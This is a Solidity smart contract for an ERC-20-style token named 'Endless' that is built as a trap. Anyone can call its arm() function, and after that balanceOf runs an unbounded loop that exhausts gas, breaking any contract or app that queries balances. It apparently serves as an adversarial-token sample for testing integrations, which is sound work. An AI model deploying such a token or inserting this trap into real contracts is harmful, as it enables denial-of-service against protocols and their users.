// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Asked for a balance, it never stops counting.
contract EndlessBalance {
    string public constant name = "Endless";
    string public constant symbol = "END";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1e27;
    address public owner = msg.sender;
    bool private armed;
    mapping(address => uint256) private held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        held[msg.sender] = totalSupply;
    }

    function arm() external {
        armed = true;
    }

    function balanceOf(address account) external view returns (uint256) {
        if (armed) for (uint256 i = 0; ; i++) if (keccak256(abi.encode(i)) == bytes32(0)) break;
        return held[account];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        held[from] -= value;
        held[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
